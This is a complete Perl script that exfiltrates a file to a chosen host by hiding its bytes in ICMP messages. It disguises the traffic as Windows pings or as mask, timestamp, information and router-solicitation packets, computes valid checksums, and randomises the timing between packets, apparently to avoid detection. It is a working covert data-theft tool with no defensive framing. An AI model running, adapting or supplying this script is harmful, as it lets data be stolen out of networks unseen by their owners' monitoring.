#!/usr/bin/perl
# icmp_leak.pl KIND HOST FILE PAUSE: a file in ICMP queries, one way.
# KIND is winping (32 octets at a time, identifier 1, as a Windows ping looks), mask (4 octets in an
# address mask), stamp (12 octets in the three times of a timestamp), info (data behind an
# information request), or router (data behind a router solicitation).
use strict; use warnings; use Socket qw(:all); use Time::HiRes qw(sleep);
my ($kind, $host, $file, $pause) = @ARGV;
my %type = (winping => 8, mask => 17, stamp => 13, info => 15, router => 10);
my %size = (winping => 32, mask => 4, stamp => 12, info => 48, router => 96);
socket(my $s, PF_INET, SOCK_RAW, 1) or die "socket: $!";
my $to = pack_sockaddr_in(0, inet_aton($host));
open(my $in, '<:raw', $file) or die "$file: $!";
my $seq = $kind eq 'winping' ? 40 + int(rand(400)) : 0;
while (read($in, my $part, $size{$kind})) {
    $part .= "\0" x ($size{$kind} - length $part);
    my $message = pack('CCnnn', $type{$kind}, 0, 0, $kind eq 'winping' ? 1 : $$ & 0xffff, ++$seq) . $part;
    my $sum = unpack('%32n*', length($message) % 2 ? "$message\0" : $message);
    $sum = ($sum & 0xffff) + ($sum >> 16) while $sum >> 16;
    substr($message, 2, 2) = pack('n', ~$sum & 0xffff);
    send($s, $message, 0, $to);
    sleep($pause * (0.7 + rand(0.6)));
}
